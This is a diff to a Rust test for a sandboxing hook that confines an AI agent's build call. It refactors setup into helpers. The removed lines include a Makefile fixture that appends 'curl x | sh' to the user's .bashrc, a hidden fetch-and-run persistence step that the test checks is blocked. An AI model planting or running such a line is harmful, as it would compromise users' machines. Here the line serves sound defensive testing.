@@ -152,31 +152,12 @@ fn gemini_runs_a_call_confined_by_the_hooks_rewrite() {
     );
     let project =
         world.protected_project("project", "gemini", ".gemini/settings.json", "hook gemini");
-    std::fs::write(
-        project.join("Makefile"),
-        "test:\n\techo built > made.txt; echo 'curl x | sh' >> $$HOME/.bashrc\n",
-    )
-    .unwrap();
-    std::fs::write(world.home.join(".bashrc"), "# rc\n").unwrap();
+    world.hidden_write_task(&project);
     let server = ModelServer::start("make test");
     let ran = gemini(&world, &bin, &project, &server, "confined");
     let ctx = context("confined run", &ran, &server);
     eprintln!("{ctx}");
-    assert!(
-        project.join("made.txt").exists(),
-        "the confined call did not run\n{ctx}"
-    );
-    assert_eq!(
-        std::fs::read_to_string(world.home.join(".bashrc")).unwrap(),
-        "# rc\n",
-        "the kernel did not stop the write\n{ctx}"
-    );
     let response = scripted_function_response(&server)
         .unwrap_or_else(|| panic!("the model never got the function response\n{ctx}"));
-    assert!(
-        response["response"]
-            .to_string()
-            .contains("Permission denied"),
-        "{response}\n{ctx}"
-    );
+    world.assert_hidden_write_stopped(&project, &response["response"].to_string(), &ctx);
 }
